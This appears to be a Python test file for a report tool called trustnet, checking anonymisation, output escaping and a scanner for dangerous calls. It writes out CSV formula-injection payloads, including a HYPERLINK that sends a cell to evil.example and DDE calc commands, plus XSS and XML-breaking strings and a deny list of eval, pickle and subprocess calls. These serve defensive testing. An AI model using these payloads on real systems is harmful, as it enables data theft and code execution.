"""Sharing safety: an anonymised report carries no input identifier; hostile text stays text everywhere.

Three guarantees, each checked on every byte the report writes:

- with ``--anonymise`` no id, e-mail, name, comment, IP or title line of the input appears in any output file
  (tables, graph files, figures, summary.json, index.html) nor on the terminal, in any spelling (as is, lower
  or upper case, HTML- or JSON-escaped) — rejected rows and the loader's warnings included;
- without it, hostile names in every column that reaches an output are neutralised in every CSV (no cell a
  spreadsheet would run as a formula), escaped in the HTML (no markup of ours but ours) and keep the XML and
  JSON files well-formed;
- no module under ``trustnet/`` evaluates, unpickles or shells out (``eval``, ``exec``, ``pickle``,
  ``subprocess``, ``os.system``...).
"""

from __future__ import annotations

import ast
import csv
import html
import io
import json
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from click.testing import CliRunner

from trustnet.cli import cli
from trustnet.report.tables import FORMULA_PREFIXES

PACKAGE = Path(__file__).resolve().parents[1] / "trustnet"

# every identifier is long and distinctive, so that finding it by chance (in a base64 figure) is impossible
PEOPLE = {
    "ANNZ9001": ("Annabelle Zephyrine", "annabelle.zephyrine@quokkamail.org", "203.0.113.77"),
    "BOBQ9002": ("Bartholomew Quillfeather", "bart.quillfeather@quokkamail.org", "198.51.100.91"),
    "CARX9003": ("Carolina Xanthippe", "carolina.xanthippe@wombatpost.net", "198.51.100.92"),
    "DAVY9004": ("Davina Yolondasson", "davina.yolondasson@wombatpost.net", "192.0.2.144"),
    "EVEW9005": ("Evelyn Wystanbury", "evelyn.wystanbury@quokkamail.org", "192.0.2.145"),
    "FRAV9006": ("Francesca Vantablack", "fran.vantablack@wombatpost.net", "192.0.2.146"),
    "GUSU9007": ("Gustav Umberfield", "gustav.umberfield@quokkamail.org", "192.0.2.147"),
    "HOLT9008": ("Hollis Tarringtonne", "hollis.tarringtonne@wombatpost.net", "192.0.2.148"),
}
PROVIDERS = ["Quixotic Tilery", "Zanzibar Plumbworks"]
COMMENTS = ["ring Annabelle on 0612345678 after dinner", "Bartholomew was lovely and cheap"]
TITLE = "Export for Marchetti-Okonkwo Holdings"


def _referrals() -> str:
    ids = list(PEOPLE)
    head = ("referrer,referred,provider,referred_at,status,revenue,referrer_name,referred_name,referrer_email,"
            "fingerprint,comment,channel")
    rows = []
    for i, (a, b) in enumerate(zip(ids, ids[1:])):
        rows.append(f"{a},{b},{PROVIDERS[i % 2]},2025-01-{i + 2:02d},converted,{100 + i},{PEOPLE[a][0]},"
                    f"{PEOPLE[b][0]},{PEOPLE[a][1]},{PEOPLE[b][2]},{COMMENTS[i % 2]},link")
    rows.append(f"{ids[7]},{ids[0]},{PROVIDERS[1]},2025-01-20,pending,,{PEOPLE[ids[7]][0]},{PEOPLE[ids[0]][0]},"
                f"{PEOPLE[ids[7]][1]},{PEOPLE[ids[0]][2]},,email")  # closes a cycle
    rows.append(f"{ids[0]},{ids[0]},{PROVIDERS[0]},2025-02-01,converted,5,,,,,,link")  # self-referral
    rows.append(f"{ids[1]},{ids[3]},{PROVIDERS[0]},{PEOPLE[ids[6]][1]},converted,5,,,,,,link")  # e-mail as a date
    rows.append(f"{ids[2]},{ids[4]},{PROVIDERS[1]},2025-02-03,converted,{PEOPLE[ids[7]][0]},,,,,,link")  # bad amount
    rows.append(f",{ids[5]},{PROVIDERS[1]},2025-02-03,converted,5,,{PEOPLE[ids[5]][0]},,,,link")  # no referrer
    rows.append(rows[0])  # exact duplicate
    rows.append(f"{ids[6]},{ids[7]},{PROVIDERS[1]},2025-02-04,converted,5,x")  # ragged
    return TITLE + "\n" + head + "\n" + "\n".join(rows) + "\n"


def _touchpoints() -> str:
    head = "customer,provider,at,touchpoint,score,scale,event,comment"
    rows = [f"{c},{PROVIDERS[i % 2]},2025-03-0{1 + i % 9},nps survey,{(i * 3) % 11},0-10,,{COMMENTS[i % 2]}"
            for i, c in enumerate(PEOPLE)]
    rows.append(f"{list(PEOPLE)[0]},{PROVIDERS[0]},2025-03-05,support call,{PEOPLE['BOBQ9002'][1]},0-10,complaint,")
    rows.append(f"STRANGER9099,{PROVIDERS[0]},2025-03-05,support call,3,0-10,complaint,{PEOPLE['CARX9003'][0]}")
    return "\n".join([head, *rows]) + "\n"


def _secrets() -> list[str]:
    out = [TITLE, "Marchetti-Okonkwo", "0612345678", "STRANGER9099", "quokkamail", "wombatpost", *PROVIDERS,
           *COMMENTS]
    for pid, (name, mail, ip) in PEOPLE.items():
        out += [pid, name, *name.split(), mail, mail.split("@")[0], ip]
    return out


def _spellings(secret: str) -> set[bytes]:
    forms = {secret, secret.lower(), secret.upper(), html.escape(secret), json.dumps(secret)[1:-1]}
    return {f.encode("utf-8") for f in forms} | {secret.encode("utf-16-le")}


@pytest.fixture(scope="module")
def anonymised_reports(tmp_path_factory):
    folder = tmp_path_factory.mktemp("anon")
    (folder / "referrals.csv").write_text(_referrals(), encoding="utf-8")
    (folder / "touchpoints.csv").write_text(_touchpoints(), encoding="utf-8")
    runs = {}
    for fmt in ("png", "svg"):
        out = folder / f"report-{fmt}"
        result = CliRunner().invoke(cli, ["analyse", str(folder / "referrals.csv"), "--touchpoints",
                                          str(folder / "touchpoints.csv"), "-o", str(out), "--anonymise",
                                          "--format", fmt], catch_exceptions=False)
        assert result.exit_code == 0, result.output
        runs[fmt] = (out, result.output)
    return folder, runs


def test_the_input_really_holds_the_secrets(anonymised_reports):
    folder, _ = anonymised_reports
    text = (folder / "referrals.csv").read_text() + (folder / "touchpoints.csv").read_text()
    assert all(s in text for s in _secrets())
    plain = folder / "plain"
    result = CliRunner().invoke(cli, ["analyse", str(folder / "referrals.csv"), "--touchpoints",
                                      str(folder / "touchpoints.csv"), "-o", str(plain), "--quiet"])
    assert result.exit_code == 0, result.output
    written = b"".join(p.read_bytes() for p in plain.rglob("*") if p.is_file())
    assert b"ANNZ9001" in written and b"Quixotic Tilery" in written  # the check below can fail


@pytest.mark.parametrize("fmt", ["png", "svg"])
def test_no_identifier_reaches_any_output(anonymised_reports, fmt):
    _, runs = anonymised_reports
    out, terminal = runs[fmt]
    files = [p for p in out.rglob("*") if p.is_file()]
    assert len(files) >= 15
    found = []
    for path in files:
        data = path.read_bytes()
        for secret in _secrets():
            if any(form in data for form in _spellings(secret)):
                found.append(f"{path.relative_to(out)}: {secret!r}")
    for secret in _secrets():
        if any(form.decode("utf-8", "ignore") in terminal for form in _spellings(secret)):
            found.append(f"terminal: {secret!r}")
    assert found == []


def test_anonymised_report_still_accounts_for_every_row(anonymised_reports):
    _, runs = anonymised_reports
    out, _ = runs["png"]
    load = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    rejected = list(csv.DictReader(io.StringIO((out / "rejected_rows.csv").read_text(encoding="utf-8-sig"))))
    assert sorted(rejected[0]) == ["reason", "source_line"]
    reasons = " ".join(r["reason"] for r in rejected)
    assert "self-referral" in reasons and "unparseable date" in reasons and "'referred_at'" in reasons
    assert "<value removed>" in reasons
    text = json.dumps(load)
    assert '"rows_read": 14' in text and '"duplicates": 1' in text


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<script>alert('pwn')</script>",
    '"><img src=x onerror=alert(1)>',
    "\t=1+1",
    "]]></x><evil/>&amp;",
]


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    people = [f"{h} #{i}" for i, h in enumerate(HOSTILE)]
    provider = HOSTILE[4] + " Tiles"
    frame_rows = []
    for i, (a, b) in enumerate(zip(people, people[1:])):
        frame_rows.append([a, b, provider, f"2025-01-{i + 2:02d}", "converted", str(10 + i), HOSTILE[i % 8],
                           HOSTILE[(i + 1) % 8], HOSTILE[(i + 2) % 8]])
    frame_rows.append([people[0], people[0], provider, "2025-02-01", "converted", "5", "", "", ""])
    frame_rows.append([people[1], people[2], provider, HOSTILE[0], "converted", "5", "", "", ""])
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["referrer", "referred", "provider", "referred_at", "status", "revenue", "referrer_name",
                     "channel", HOSTILE[0]])
    writer.writerows(frame_rows)
    (folder / "r.csv").write_text(buffer.getvalue(), encoding="utf-8")
    tbuf = io.StringIO()
    tw = csv.writer(tbuf)
    tw.writerow(["customer", "provider", "at", "touchpoint", "score", "scale", "event"])
    for i, p in enumerate(people):
        tw.writerow([p, provider, f"2025-03-0{1 + i % 9}", HOSTILE[i % 8], str(i % 11), "0-10", ""])
    (folder / "t.csv").write_text(tbuf.getvalue(), encoding="utf-8")
    out = folder / "report"
    result = CliRunner().invoke(cli, ["analyse", str(folder / "r.csv"), "--touchpoints", str(folder / "t.csv"),
                                      "-o", str(out), "--format", "svg"], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return out


def test_hostile_names_reach_the_outputs(hostile_report):
    nodes = (hostile_report / "nodes.csv").read_text(encoding="utf-8-sig")
    assert "HYPERLINK" in nodes and "alert" in nodes  # they are there, so the checks below mean something


def test_no_csv_cell_is_a_formula(hostile_report):
    files = sorted(hostile_report.rglob("*.csv"))
    assert len(files) >= 8
    bad = []
    for path in files:
        reader = csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""))
        for line, row in enumerate(reader, start=1):
            for cell in row:
                if cell.startswith(FORMULA_PREFIXES):
                    try:
                        float(cell)  # a number such as -0.25 is not a formula
                    except ValueError:
                        bad.append(f"{path.name}:{line}: {cell[:40]!r}")
    assert bad == []


def test_html_shows_hostile_names_as_text(hostile_report):
    page = (hostile_report / "index.html").read_text(encoding="utf-8")
    assert "<script>alert" not in page and "<img src=x" not in page and "<evil/>" not in page
    assert "&lt;script&gt;alert" in page
    assert page.count("<script") == page.count("</script>")


def test_graph_and_data_files_stay_well_formed(hostile_report):
    for name in ("graph.gexf", "graph.graphml"):
        root = ET.parse(hostile_report / name).getroot()
        text = ET.tostring(root, encoding="unicode")
        assert "alert" in text and "<evil" not in text
    json.loads((hostile_report / "graph.json").read_text(encoding="utf-8"))
    json.loads((hostile_report / "summary.json").read_text(encoding="utf-8"))
    for svg in (hostile_report / "figures").glob("*.svg"):
        ET.parse(svg)


# --- no evaluation, unpickling or shell on user data -------------------------------------------

FORBIDDEN_CALLS = {"eval", "exec", "compile", "__import__", "os.system", "os.popen", "os.spawnl", "os.execv",
                   "pickle.load", "pickle.loads", "marshal.loads", "pd.read_pickle", "pandas.read_pickle",
                   "yaml.load", "subprocess.run", "subprocess.Popen", "subprocess.call", "subprocess.check_output",
                   "shelve.open"}
FORBIDDEN_IMPORTS = {"pickle", "cPickle", "dill", "marshal", "shelve", "subprocess", "pty", "commands"}


def _dotted(node: ast.AST) -> str:
    if isinstance(node, ast.Name):
        return node.id
    if isinstance(node, ast.Attribute):
        return f"{_dotted(node.value)}.{node.attr}"
    return ""


def _violations(source: str, name: str) -> list[str]:
    found = []
    for node in ast.walk(ast.parse(source, filename=name)):
        if isinstance(node, ast.Import):
            found += [f"{name}:{node.lineno} import {a.name}" for a in node.names
                      if a.name.split(".")[0] in FORBIDDEN_IMPORTS]
        elif isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] in FORBIDDEN_IMPORTS:
            found.append(f"{name}:{node.lineno} from {node.module} import")
        elif isinstance(node, ast.Call):
            called = _dotted(node.func)
            constant = all(isinstance(a, ast.Constant) for a in node.args) and not node.keywords
            if called == "__import__" and constant:
                continue  # __import__("types"): a module by its literal name, no user data
            if called in FORBIDDEN_CALLS or called.endswith(".read_pickle"):
                found.append(f"{name}:{node.lineno} {called}()")
            for kw in node.keywords:
                if kw.arg == "shell" and isinstance(kw.value, ast.Constant) and kw.value.value:
                    found.append(f"{name}:{node.lineno} shell=True")
                if kw.arg == "allow_pickle" and isinstance(kw.value, ast.Constant) and kw.value.value:
                    found.append(f"{name}:{node.lineno} allow_pickle=True")
    return found


def test_the_scanner_finds_what_it_looks_for():
    sample = ("import pickle\nimport subprocess as sp\nfrom os import system\neval(x)\nos.system('ls')\n"
              "pd.read_pickle(p)\nnp.load(p, allow_pickle=True)\nsp.run(c, shell=True)\nexec(code)\n")
    assert len(_violations(sample, "sample.py")) == 8
    assert _violations("__import__('types')\n__import__(name)\n", "s.py") == ["s.py:2 __import__()"]


def test_no_module_evaluates_unpickles_or_shells_out():
    files = sorted(PACKAGE.rglob("*.py"))
    assert len(files) > 30
    found = [v for f in files for v in _violations(f.read_text(encoding="utf-8"), str(f.relative_to(PACKAGE)))]
    assert found == []


def test_anonymised_rating_network_with_node_attributes(tmp_path):
    ids = [f"RATERQ{i:03d}X" for i in range(12)]
    names = [f"Personina Quolt{i:03d}" for i in range(12)]
    ratings = ["rater,ratee,rating,time"] + [f"{a},{b},{(i % 5) * 2 - 4},{1300000000 + i * 100}"
                                             for i, (a, b) in enumerate(zip(ids, ids[1:] + ids[:1]))]
    ratings.append(f"{ids[0]},{ids[2]},3,when-{ids[5]}-said")  # rejected, quoting an id
    (tmp_path / "r.csv").write_text("\n".join(ratings) + "\n")
    nodes = ["id,full name,E-mail,phone,badge,practice"] + [
        f"{p},{n},q{i}@zzmailhost.org,+3161234{i:04d},BADGEQ{i:03d}Z,Practice{'North' if i % 2 else 'South'}"
        for i, (p, n) in enumerate(zip(ids, names))]
    (tmp_path / "n.csv").write_text("\n".join(nodes) + "\n")
    out = tmp_path / "report"
    result = CliRunner().invoke(cli, ["analyse", str(tmp_path / "r.csv"), "--kind", "ratings", "--nodes",
                                      str(tmp_path / "n.csv"), "-o", str(out), "--anonymise", "--quiet"])
    assert result.exit_code == 0, result.output
    secrets = [*ids, *names, "Quolt", "zzmailhost", "+3161234", "BADGEQ"]
    found = [f"{p.relative_to(out)}: {s}" for p in out.rglob("*") if p.is_file()
             for s in secrets if s.encode() in p.read_bytes()]
    assert found == []
    assert b"PracticeNorth" in (out / "nodes.csv").read_bytes()  # groups are not identifiers: they stay
